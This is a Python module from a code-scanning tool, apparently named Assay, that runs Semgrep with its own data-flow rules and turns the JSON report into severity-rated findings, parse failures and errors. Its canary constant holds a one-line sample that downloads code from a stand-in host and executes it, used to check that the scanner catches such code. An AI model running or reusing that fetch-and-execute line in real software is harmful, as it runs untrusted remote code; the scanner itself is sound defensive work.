"""Semgrep with Assay's own rules, which follow data flows from sources to dangerous sinks."""

import hashlib
from importlib.resources import files
from pathlib import Path
from typing import Any

import msgspec

from assay.deepscan.excerpt import LONGEST_MESSAGE, LONGEST_NAME, printable_line
from assay.deepscan.install import environment_variables, installed_version
from assay.deepscan.tool import Tool, ToolFailed, ToolReport
from assay.model.deep_scan import DeepTool
from assay.model.finding import Finding, Severity

RULES = Path(str(files("assay.deepscan").joinpath("rules")))
KINDS = frozenset({"py", "js", "ts", "jsx", "tsx", "sh"})
CANARY = ("canary.py", b'import requests\nexec(requests.get("https://canary.invalid/x").text)\n')
# Error types that mean the file, not the tool, is at fault: it does not parse.
UNPARSED = ("syntax", "parse", "parsing", "lexical", "otherparseerror", "astbuilder")
FILE_SECONDS, STRIKES, LARGEST_FILE = 20, 2, 2_000_000
SEVERITIES = {"ERROR": Severity.HIGH, "WARNING": Severity.MEDIUM, "INFO": Severity.LOW}
CONFIDENCE = 0.6
REMEDIATION = "Remove this code, or write it so that users of the skill can read and verify it."


class _SemgrepPosition(msgspec.Struct):
    line: int


class _SemgrepExtra(msgspec.Struct):
    message: str = ""
    severity: str = "WARNING"
    metadata: dict[str, Any] = {}


class _SemgrepMatch(msgspec.Struct):
    check_id: str
    path: str
    start: _SemgrepPosition
    extra: _SemgrepExtra


class SemgrepError(msgspec.Struct):
    message: str = ""
    path: str | None = None
    type: Any = None
    level: str = "error"


class _SemgrepOutput(msgspec.Struct):
    """The used fields of its JSON report."""

    results: list[_SemgrepMatch]
    errors: list[SemgrepError]


def semgrep(folder: Path, jobs: int) -> Tool | None:
    """Return Semgrep as installed in this environment, or None."""
    version = installed_version(folder, "semgrep")
    if version is None:
        return None
    arguments = (
        "scan --metrics=off --disable-version-check --quiet --json --no-git-ignore --no-rewrite-rule-ids"
        f" --disable-nosem --jobs {jobs} --timeout {FILE_SECONDS} --timeout-threshold {STRIKES}"
        f" --max-target-bytes {LARGEST_FILE}"
    )
    return Tool(
        name=DeepTool.SEMGREP,
        version=f"{version}+rules.{rules_version()}",
        program=lambda _workspace: [str(folder / "bin" / "semgrep"), *arguments.split(), "--config", str(RULES), "."],
        read=read,
        success_codes=frozenset({0, 1}),
        kinds=KINDS,
        canary=CANARY,
        environment=environment_variables(folder)
        | {"SEMGREP_SEND_METRICS": "off", "SEMGREP_ENABLE_VERSION_CHECK": "0"},
        readable=[folder, RULES],
    )


def rules_version() -> str:
    """Return a digest of all rules."""
    content = b"".join(file.read_bytes() for file in sorted(RULES.glob("*.yaml")))
    return hashlib.sha256(content).hexdigest()[:8]


def read(output: bytes) -> ToolReport:
    """Parse the report of Semgrep."""
    try:
        decoded = msgspec.json.decode(output, type=_SemgrepOutput)
    except msgspec.DecodeError as error:
        raise ToolFailed(f"its report cannot be read: {error}") from None
    report = ToolReport([(_name(match.path), _finding(match)) for match in decoded.results])
    add_errors(decoded.errors, report)
    return report


def add_errors(errors: list[SemgrepError], report: ToolReport) -> None:
    """Record a file that does not parse as a finding, and any other error of a file as a failure to examine it."""
    for error in errors:
        if error.path is None:
            raise ToolFailed(printable_line(error.message, LONGEST_MESSAGE) or "it gave no reason")
        kind = str(error.type[0] if isinstance(error.type, list) and error.type else error.type).lower()
        if any(word in kind for word in UNPARSED):
            report.findings.append((_name(error.path), unparsed_finding()))
        else:
            report.failures.append((_name(error.path), printable_line(f"{kind}: {error.message}", LONGEST_MESSAGE)))


def unparsed_finding() -> Finding:
    """Build the finding for a file that the tool could not parse."""
    return Finding(
        rule_id="assay.unparsed",
        family="unexamined",
        severity=Severity.LOW,
        confidence=1.0,
        file="",
        line=1,
        excerpt="",
        message="The tool could not parse this file or a part of it, so it was not examined.",
        remediation="Correct its syntax, or give it the suffix of its actual type.",
    )


def _finding(match: _SemgrepMatch) -> Finding:
    metadata = match.extra.metadata
    severity = SEVERITIES.get(match.extra.severity, Severity.MEDIUM)
    if metadata.get("assay-severity") in set(Severity):
        severity = Severity(metadata["assay-severity"])
    # A percentage, because Semgrep accepts no fractions in rules.
    percent = metadata.get("assay-percent")
    return Finding(
        rule_id=printable_line(match.check_id.rpartition(".rules.")[2] or match.check_id, LONGEST_NAME),
        family=printable_line(str(metadata.get("family", "code")), LONGEST_NAME),
        severity=severity,
        confidence=percent / 100 if isinstance(percent, int) and 0 <= percent <= 100 else CONFIDENCE,
        file="",
        line=max(1, match.start.line),
        excerpt="",
        message=printable_line(match.extra.message, LONGEST_MESSAGE),
        remediation=printable_line(str(metadata.get("remediation", REMEDIATION)), LONGEST_MESSAGE),
    )


def _name(path: str) -> str:
    return path.removeprefix("./")
